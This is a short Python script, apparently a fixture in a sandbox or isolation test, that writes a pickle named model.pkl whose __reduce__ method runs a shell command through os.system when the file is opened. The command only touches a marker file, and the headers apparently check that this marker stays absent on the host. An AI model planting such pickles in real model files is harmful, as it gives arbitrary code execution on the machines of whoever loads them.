"""Hands back a pickle that runs a command where it is opened."""

# expect: ok
# outputs: model.pkl
# collected: model.pkl
# host-absent: /tmp/echolocate-owned

import os, pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/echolocate-owned",)


pickle.dump(Payload(), open("out/model.pkl", "wb"))
